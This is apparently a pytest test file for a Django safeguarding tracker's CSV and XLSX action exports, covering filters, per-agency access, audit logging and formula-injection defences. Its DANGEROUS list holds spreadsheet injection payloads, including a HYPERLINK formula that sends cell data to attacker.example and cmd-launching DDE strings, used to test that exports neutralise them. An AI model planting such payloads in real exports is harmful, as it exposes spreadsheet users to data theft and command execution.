"""CSV and XLSX exports of actions: the columns, the filters, formula injection, and the audit trail."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from safeguarding.audit.models import AuditEvent
from safeguarding.tracker.dashboards.exports import COLUMNS, csv_safe
from tests.accounts.factories import UserFactory
from tests.staff import login_verified

from .conftest import TODAY, add_action

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def _xlsx_sheet(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    return workbook.worksheets[0]


@pytest.fixture
def viewer(client, tracker):
    user = UserFactory(viewer=True)
    login_verified(client, user)
    return user


def test_the_csv_export_has_a_row_per_action_with_every_column(client, tracker, viewer):
    response = client.get("/staff/exports/actions.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="actions-{TODAY.isoformat()}.csv"'
    rows = _csv_rows(response)
    assert rows[0] == COLUMNS
    by_id = {int(row[3]): dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {a.pk for a in tracker.actions.values()}
    a1 = by_id[tracker.actions["a1"].pk]
    assert a1["Review"] == "Review one"
    assert (a1["Recommendation reference"], a1["Recommendation title"]) == ("1", "Share what agencies know")
    assert (a1["Owner agency"], a1["Status"], a1["RAG"], a1["RAG override"]) == (
        "Testborough Police",
        "Complete",
        "Complete",
        "No",
    )
    assert (a1["Evidence waiting for review"], a1["Evidence accepted"], a1["Evidence returned"]) == (
        "0",
        "1",
        "0",
    )
    assert by_id[tracker.actions["a2"].pk]["Due date"] == "2026-06-01"
    assert by_id[tracker.actions["a2"].pk]["RAG"] == "Red"


def test_exports_take_the_dashboard_filters(client, tracker, viewer):
    response = client.get(
        f"/staff/exports/actions.csv?board={tracker.adults.pk}&agency={tracker.agency_a.pk}"
    )

    ids = {int(row[3]) for row in _csv_rows(response)[1:]}
    assert ids == {tracker.actions["a1"].pk, tracker.actions["a3"].pk, tracker.actions["a4"].pk}
    filename = f"actions-agency-{tracker.agency_a.pk}-board-{tracker.adults.pk}-{TODAY.isoformat()}.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'


@pytest.mark.parametrize("query", ["review=abc", "board=999999", "agency=-1"])
def test_exports_with_a_bad_filter_are_not_found(client, tracker, viewer, query):
    assert client.get(f"/staff/exports/actions.csv?{query}").status_code == 404


@pytest.mark.parametrize("value", DANGEROUS)
def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(client, tracker, viewer, value):
    lead = UserFactory(agency_lead=tracker.agency_a, first_name=value, last_name="")
    add_action(tracker.r1, tracker.agency_a, description=value, lead=lead)

    rows = _csv_rows(client.get("/staff/exports/actions.csv"))

    row = next(r for r in rows if r[4].lstrip("'") == value)
    assert row[4] == "'" + value
    assert row[6] == "'" + value.strip()  # the lead's name (get_full_name strips)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_safe_leaves_ordinary_values_alone():
    assert csv_safe("Train the front door") == "Train the front door"
    assert csv_safe(12) == "12"
    assert csv_safe(None) == ""
    assert csv_safe("-") == "'-"


def test_the_xlsx_export_writes_formula_like_text_as_text(client, tracker, viewer):
    for value in DANGEROUS:
        add_action(tracker.r1, tracker.agency_a, description=value)

    response = client.get("/staff/exports/actions.xlsx")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="actions-{TODAY.isoformat()}.xlsx"'
    sheet = _xlsx_sheet(response)
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0]] == COLUMNS
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    descriptions = {row[4].value for row in rows[1:]}
    # Text kept as typed, as text. XML reads a bare carriage return as a line break, as Excel shows it.
    for value in DANGEROUS:
        assert value.replace("\r", "\n") in descriptions
    assert len(rows) == 1 + len(tracker.actions) + len(DANGEROUS)


def test_the_xlsx_export_keeps_dates_and_numbers_as_such(client, tracker, viewer):
    sheet = _xlsx_sheet(client.get("/staff/exports/actions.xlsx"))
    rows = {row[3].value: row for row in sheet.iter_rows(min_row=2)}

    a2 = rows[tracker.actions["a2"].pk]
    assert a2[7].value.date() == tracker.actions["a2"].due_date
    assert a2[12].value == 0


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_agency_lead_exports_only_their_agencys_actions(client, tracker, extension):
    login_verified(client, UserFactory(agency_lead=tracker.agency_b))

    response = client.get(f"/staff/exports/actions.{extension}")

    if extension == "csv":
        rows = _csv_rows(response)[1:]
        agencies, ids = {r[5] for r in rows}, {int(r[3]) for r in rows}
    else:
        rows = list(_xlsx_sheet(response).iter_rows(min_row=2, values_only=True))
        agencies, ids = {r[5] for r in rows}, {r[3] for r in rows}
    assert agencies == {"Testborough Health"}
    assert ids == {tracker.actions[name].pk for name in ("a2", "a5", "a6")}


def test_an_agency_lead_cannot_export_another_agency(client, tracker):
    login_verified(client, UserFactory(agency_lead=tracker.agency_b))

    assert client.get(f"/staff/exports/actions.csv?agency={tracker.agency_a.pk}").status_code == 404


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_each_export_is_audited_without_its_content(client, tracker, viewer, extension):
    before = AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT).count()

    response = client.get(f"/staff/exports/actions.{extension}?review={tracker.review1.pk}")
    if extension == "csv":
        b"".join(response.streaming_content)

    events = list(AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT).order_by("sequence"))
    assert len(events) == before + 1
    event = events[-1]
    assert event.actor_id == viewer.pk
    assert event.data == {
        "export": "actions",
        "format": extension,
        "filters": {"review": tracker.review1.pk},
        "rows": 4,
    }
    assert (event.target_type, event.target_id) == ("reviews.review", str(tracker.review1.pk))
    assert "Share what agencies know" not in str(event.data) + event.summary


def test_exports_need_a_verified_sign_in(client, tracker):
    assert client.get("/staff/exports/actions.csv").status_code == 302
    assert client.get("/staff/exports/actions.xlsx").status_code == 302
    assert not AuditEvent.objects.filter(kind=AuditEvent.Kind.EXPORT).exists()


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_exports_make_no_query_per_row(client, tracker, viewer, extension, django_assert_num_queries):
    def export() -> None:
        response = client.get(f"/staff/exports/actions.{extension}")
        if extension == "csv":
            b"".join(response.streaming_content)

    export()
    with CaptureQueriesContext(connection) as few:
        export()
    for i in range(30):
        add_action(
            tracker.r3, tracker.agency_a, status="complete", evidence=["accepted", "returned"][: i % 3]
        )
    with django_assert_num_queries(len(few.captured_queries)):
        export()
